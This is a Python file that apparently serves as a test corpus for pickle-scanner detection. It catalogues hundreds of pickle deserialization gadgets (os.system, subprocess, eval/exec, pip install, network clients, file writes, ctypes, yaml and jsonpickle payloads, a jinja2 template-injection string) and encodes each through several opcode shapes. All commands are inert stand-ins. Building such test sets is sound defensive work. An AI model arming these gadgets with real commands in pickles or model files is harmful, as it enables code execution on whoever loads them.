"""Calls that a pickle can make to run code, or to read, write, load or send something."""

from blind2_kit import AWAY, ECHO, URL, call, glob, inst, method, obj, sglob, value

EXPR = "__import__('os').system('echo inert')"
CODE = "import os; os.system('echo inert')"
HOST = "example.invalid"
FILTER = {"version": 1, "filters": {"a": {"()": "os.system", "command": ECHO}}}
SYSTEM = glob("os", "system")

# Module, name, arguments.
STANDARD = [
    ("posix", "system", (ECHO,)),
    ("nt", "system", (ECHO,)),
    ("os", "popen", (ECHO,)),
    ("os", "execvp", ("echo", ["echo", "inert"])),
    ("os", "posix_spawn", ("/bin/echo", ["echo", "inert"], {})),
    ("os", "spawnlp", (0, "echo", "echo", "inert")),
    ("subprocess", "Popen", (["echo", "inert"],)),
    ("subprocess", "getstatusoutput", (ECHO,)),
    ("subprocess", "check_call", (["echo", "inert"],)),
    ("commands", "getoutput", (ECHO,)),
    ("popen2", "popen3", (ECHO,)),
    ("pty", "spawn", (["echo", "inert"],)),
    ("builtins", "eval", (EXPR,)),
    ("__builtin__", "execfile", (AWAY,)),
    ("builtins", "exec", (CODE,)),
    ("runpy", "run_path", (AWAY + ".py",)),
    ("runpy", "_run_code", (EXPR, {})),
    ("timeit", "timeit", ("pass", CODE)),
    ("timeit", "repeat", (CODE, "pass")),
    ("cProfile", "run", (CODE,)),
    ("profile", "runctx", (CODE, {}, {})),
    ("doctest", "run_docstring_examples", (f">>> {EXPR}\n", {})),
    ("_osx_support", "_read_output", (ECHO,)),
    ("_aix_support", "_read_cmd_output", (ECHO,)),
    ("uuid", "_get_command_stdout", ("echo", "inert")),
    ("pydoc", "pipepager", ("text", ECHO)),
    ("pydoc", "tempfilepager", ("text", ECHO)),
    ("pydoc", "importfile", (AWAY + ".py",)),
    ("distutils.spawn", "spawn", (["echo", "inert"],)),
    ("distutils.util", "execute", (SYSTEM, (ECHO,))),
    ("distutils.core", "run_setup", (AWAY + "/setup.py",)),
    ("distutils.file_util", "write_file", (AWAY, ["line"])),
    ("imaplib", "IMAP4_stream", (ECHO,)),
    ("multiprocessing.util", "spawnv_passfds", (b"C\x09/bin/echo", [b"C\x04echo"], [])),
    ("test.support.script_helper", "assert_python_ok", ("-c", CODE)),
    ("_testcapi", "run_in_subinterp", (CODE,)),
    ("lib2to3.pgen2.driver", "load_grammar", (AWAY,)),
    ("idlelib.calltip", "get_entity", (EXPR,)),
    ("logging.config", "dictConfig", (FILTER,)),
    ("logging.config", "fileConfig", (AWAY,)),
    ("logging.config", "listen", (9030,)),
    ("site", "addsitedir", (AWAY,)),
    ("site", "addpackage", (AWAY, "a.pth", None)),
    ("ensurepip", "_run_pip", (["install", "inert-package"],)),
    ("venv", "create", (AWAY,)),
    ("pip._internal", "main", (["install", "inert-package"],)),
    ("pip", "main", (["install", "inert-package"],)),
    ("py_compile", "compile", (AWAY + ".py", AWAY + ".pyc")),
    ("compileall", "compile_dir", (AWAY,)),
    ("zipapp", "create_archive", (AWAY, AWAY + ".pyz")),
    ("ctypes", "CDLL", (AWAY + ".so",)),
    ("ctypes", "PyDLL", (AWAY + ".so",)),
    ("_ctypes", "dlopen", (AWAY + ".so", 2)),
    ("imp", "load_source", ("inert", AWAY + ".py")),
    ("imp", "load_dynamic", ("inert", AWAY + ".so")),
    ("_thread", "start_new_thread", (SYSTEM, (ECHO,))),
    ("atexit", "register", (SYSTEM, ECHO)),
    ("weakref", "finalize", (glob("collections", "OrderedDict"), SYSTEM, ECHO)),
    ("webbrowser", "open_new_tab", (URL,)),
    ("urllib.request", "urlretrieve", (URL, AWAY)),
    ("urllib2", "urlopen", (URL,)),
    ("urllib", "urlretrieve", (URL, AWAY)),
    ("socket", "create_connection", ((HOST, 80),)),
    ("smtplib", "SMTP", (HOST,)),
    ("ftplib", "FTP", (HOST, "user", "pass")),
    ("telnetlib", "Telnet", (HOST, 23)),
    ("poplib", "POP3", (HOST,)),
    ("nntplib", "NNTP", (HOST,)),
    ("ssl", "get_server_certificate", ((HOST, 443),)),
    ("shutil", "rmtree", (AWAY,)),
    ("shutil", "copyfile", (AWAY, AWAY + ".out")),
    ("shutil", "unpack_archive", (AWAY + ".zip", AWAY)),
    ("shutil", "chown", (AWAY, "root")),
    ("io", "open", (AWAY, "w")),
    ("_io", "FileIO", (AWAY, "w")),
    ("io", "open_code", (AWAY,)),
    ("codecs", "open", (AWAY, "w")),
    ("gzip", "open", (AWAY, "wb")),
    ("lzma", "LZMAFile", (AWAY, "w")),
    ("bz2", "BZ2File", (AWAY, "w")),
    ("zipfile", "ZipFile", (AWAY + ".zip", "w")),
    ("tarfile", "open", (AWAY + ".tar", "w")),
    ("sqlite3", "connect", (AWAY + ".db",)),
    ("shelve", "open", (AWAY,)),
    ("dbm.dumb", "open", (AWAY, "c")),
    ("mailbox", "mbox", (AWAY,)),
    ("linecache", "getlines", (AWAY,)),
    ("tempfile", "mkdtemp", ("a", "b", "/nonexistent")),
    ("logging", "FileHandler", (AWAY,)),
    ("logging.handlers", "RotatingFileHandler", (AWAY,)),
    ("os", "remove", (AWAY,)),
    ("os", "symlink", (AWAY, AWAY + "2")),
    ("os", "putenv", ("LD_PRELOAD", AWAY + ".so")),
    ("os", "kill", (999999999, 9)),
    ("os", "_exit", (0,)),
    ("faulthandler", "_sigsegv", ()),
    ("http.server", "test", ()),
    ("_winapi", "CreateProcess", (None, ECHO, None, None, False, 0, None, None, None)),
    ("readline", "write_history_file", (AWAY,)),
    ("pickle", "load", (call(glob("io", "open"), AWAY, "rb"),)),
    ("antigravity", "geohash", (1.0, 2.0, bytearray(b"x"))),
]
PACKAGES = [
    ("numpy.testing._private.utils", "runstring", (CODE, {})),
    ("numpy.f2py.crackfortran", "myeval", (EXPR, {}, {})),
    ("numpy.distutils.exec_command", "exec_command", (ECHO,)),
    ("numpy.ctypeslib", "load_library", ("inert", "/nonexistent")),
    ("numpy", "load", (AWAY, None, True)),
    ("numpy", "memmap", (AWAY, "uint8", "w+", 0, (4,))),
    ("numpy", "fromfile", (AWAY,)),
    ("numpy", "genfromtxt", (URL,)),
    ("numpy", "savetxt", (AWAY, [1.0])),
    ("torch", "load", (AWAY,)),
    ("torch.hub", "load", ("inert/inert", "model")),
    ("torch.hub", "download_url_to_file", (URL, AWAY)),
    ("torch.hub", "load_state_dict_from_url", (URL,)),
    ("torch.jit", "load", (AWAY,)),
    ("torch.utils.collect_env", "run", (ECHO,)),
    ("torch.jit.unsupported_tensor_ops", "execWrapper", (CODE, {}, {})),
    ("torch.fx.graph_module", "_forward_from_src", (CODE, {})),
    ("torch.utils.cpp_extension", "load_inline", ("inert", "int f() { return 0; }")),
    ("torch", "from_file", (AWAY, True, 4)),
    ("pandas", "read_pickle", (URL,)),
    ("pandas", "read_csv", (URL,)),
    ("pandas.io.common", "get_handle", (AWAY, "w")),
    ("pandas", "HDFStore", (AWAY, "w")),
    ("joblib", "load", (AWAY,)),
    ("sklearn.externals.joblib", "load", (AWAY,)),
    ("sklearn.datasets", "fetch_openml", ("inert",)),
    ("scipy.io", "loadmat", (AWAY,)),
    ("scipy.weave", "inline", ('system("echo inert");',)),
    ("sympy", "sympify", (EXPR,)),
    ("sympy.parsing.sympy_parser", "parse_expr", (EXPR,)),
    ("networkx", "read_gpickle", (AWAY,)),
    ("yaml", "unsafe_load", ("!!python/object/apply:os.system ['echo inert']",)),
    ("jsonpickle", "decode", ('{"py/reduce": [{"py/type": "os.system"}, {"py/tuple": ["id"]}]}',)),
    ("hydra.utils", "instantiate", ({"_target_": "os.system", "command": ECHO},)),
    ("requests", "get", (URL,)),
    ("requests.api", "post", (URL, "body")),
    ("httpx", "get", (URL,)),
    ("fsspec", "open_local", ("simplecache::" + URL,)),
    ("invoke", "run", (ECHO,)),
    ("fabric.api", "local", (ECHO,)),
    ("pexpect", "run", (ECHO,)),
    ("IPython.utils.process", "system", (ECHO,)),
    ("IPython", "start_ipython", (["-c", CODE],)),
    ("Cython.Build.Inline", "cython_inline", (CODE,)),
    ("pyximport", "load_module", ("inert", AWAY + ".pyx")),
    ("mlflow.pyfunc", "load_model", (URL,)),
    ("keras.models", "load_model", (AWAY,)),
    ("tensorflow.python.lib.io.file_io", "write_string_to_file", (AWAY, "text")),
    ("tensorflow.io", "read_file", (AWAY,)),
    ("tensorflow", "load_op_library", (AWAY + ".so",)),
    ("transformers", "pipeline", ("text-generation", "inert/inert")),
    ("transformers.dynamic_module_utils", "get_class_from_dynamic_module", ("m.C", "a/b")),
    ("huggingface_hub", "hf_hub_download", ("inert/inert", "pytorch_model.bin")),
    ("gdown", "download", (URL,)),
    ("spacy.cli", "download", ("inert",)),
    ("spacy", "load", (AWAY,)),
    ("pytest", "main", (["/nonexistent"],)),
    ("nltk", "download", ("inert",)),
    ("nltk.data", "load", ("pickle:" + AWAY,)),
    ("gensim.utils", "unpickle", (AWAY,)),
    ("statsmodels.iolib.smpickle", "load_pickle", (AWAY,)),
    ("patsy", "dmatrix", (EXPR,)),
    ("rpy2.robjects", "r", ('system("echo inert")',)),
    ("polars", "read_csv", (URL,)),
    ("duckdb", "sql", ("COPY (SELECT 1) TO '/nonexistent/inert'",)),
    ("fastai.learner", "load_learner", (AWAY,)),
    ("ultralytics.utils.downloads", "safe_download", (URL,)),
    ("tvm.runtime", "load_module", (AWAY + ".so",)),
    ("paddle", "load", (AWAY,)),
    ("setuptools._distutils.spawn", "spawn", (["echo", "inert"],)),
    ("pkg_resources", "load_entry_point", ("inert", "console_scripts", "inert")),
    ("matplotlib.pyplot", "imread", (URL,)),
    ("seaborn", "load_dataset", ("inert",)),
    ("dill", "load_session", (AWAY,)),
    ("h5py", "File", (AWAY, "w")),
    ("PIL.ImageMath", "eval", (EXPR,)),
    ("streamlit.web.cli", "main", (["run", AWAY],)),
]
# Calls that only the next step, or a module shipped beside the file, makes do something.
WEAK = [
    ("pydoc", "locate", ("inert_module.run",)),
    ("os", "listdir", (AWAY,)),
    ("signal", "signal", (2, SYSTEM)),
    ("sys", "setprofile", (SYSTEM,)),
    ("builtins", "breakpoint", ()),
    ("builtins", "input", ("token: ",)),
    ("code", "interact", ("", None, {})),
    ("pdb", "set_trace", ()),
    ("marshal", "loads", (bytearray(b"\xe3\0\0\0\0"),)),
    ("pkgutil", "resolve_name", ("os:system",)),
    ("hydra._internal.utils", "_locate", ("inert_module.run",)),
    ("django.utils.module_loading", "import_string", ("inert_module.run",)),
    ("werkzeug.utils", "import_string", ("inert_module.run",)),
    ("dask.utils", "import_required", ("inert_module", "message")),
    ("cloudpickle.cloudpickle", "subimport", ("inert_module",)),
    ("xgboost", "Booster", (None, (), AWAY)),
]
SHAPES = [
    ("GLOBAL and REDUCE", lambda m, n, a: call(glob(m, n), *a)),
    ("STACK_GLOBAL and REDUCE", lambda m, n, a: call(sglob(m, n), *a)),
    ("OBJ", lambda m, n, a: obj(glob(m, n), *a)),
    ("INST", lambda m, n, a: inst(m, n, *a)),
]


def gadgets():
    """Techniques, each with the opcodes of its call."""
    for index, (name, item, args) in enumerate(STANDARD + PACKAGES):
        shape, make = SHAPES[index % len(SHAPES)]
        yield f"{name}.{item} through {shape}", make(name, item, args)
    yield from by_method()


def by_method():
    """Calls of methods, reached with getattr."""
    tk = call(glob("tkinter", "Tcl"))
    yield "tkinter.Tcl().eval", method(tk, "eval", "exec echo inert")
    smtp = call(glob("http.client", "HTTPConnection"), HOST)
    yield "http.client request", method(smtp, "request", "POST", "/", "body")
    pool = call(glob("concurrent.futures", "ThreadPoolExecutor"), 1)
    yield "thread pool submit", method(pool, "submit", SYSTEM, ECHO)
    timer = call(glob("threading", "Timer"), 0.1, SYSTEM, [ECHO])
    yield "threading.Timer start", method(timer, "start")
    db = call(glob("sqlite3", "connect"), ":memory:")
    first = method(db + b"q\x05", "enable_load_extension", True)
    second = method(b"h\x05", "load_extension", AWAY + ".so")
    yield "sqlite3 load_extension", value([first, second])
    loader = call(glob("importlib.machinery", "SourceFileLoader"), "inert", AWAY + ".py")
    yield "SourceFileLoader.load_module", method(loader, "load_module")
    finder = call(glob("zipimport", "zipimporter"), AWAY + ".zip")
    yield "zipimporter.load_module", method(finder, "load_module", "inert")
    path = call(glob("pathlib", "Path"), AWAY)
    yield "Path.write_text", method(path, "write_text", "text")
    yield "Path.read_bytes", method(path, "read_bytes")
    bdb = call(glob("bdb", "Bdb"))
    yield "bdb.Bdb().run", method(bdb, "run", CODE)
    shell = call(glob("code", "InteractiveInterpreter"))
    yield "InteractiveInterpreter.runsource", method(shell, "runsource", CODE)
    yield "trace.Trace().run", method(call(glob("trace", "Trace")), "run", CODE)
    browser = call(glob("webbrowser", "GenericBrowser"), "echo")
    yield "GenericBrowser.open", method(browser, "open", "inert")
    proxy = call(glob("xmlrpc.client", "ServerProxy"), URL)
    yield "xmlrpc ServerProxy method", method(proxy, "inert")
    grammar = call(glob("lib2to3.pgen2.grammar", "Grammar"))
    yield "lib2to3 Grammar.loads", method(grammar, "loads", bytearray(b"cos\nsystem\n(S'id'\ntR."))
    template = call(
        glob("jinja2", "Template"), "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
    )
    yield "jinja2.Template().render", method(template, "render")
    frame = call(glob("pandas", "DataFrame"))
    yield "DataFrame.to_csv", method(frame, "to_csv", AWAY)
    pipe = call(glob("pipes", "Template"))
    yield "pipes.Template", method(pipe, "open", AWAY, "w")
    vector = call(glob("numpy", "vectorize"), glob("builtins", "eval"))
    yield "numpy.vectorize of eval", call(vector, EXPR)
    ffi = call(glob("cffi", "FFI"))
    yield "cffi FFI.dlopen", method(ffi, "dlopen", AWAY + ".so")
    proc = call(glob("asyncio.subprocess", "create_subprocess_shell"), ECHO)
    yield "asyncio.run of a subprocess", call(glob("asyncio", "run"), proc)
    stack = call(glob("contextlib", "ExitStack"))
    first = method(stack + b"q\x05", "callback", SYSTEM, ECHO)
    yield "ExitStack.callback", value([first, method(b"h\x05", "close")])
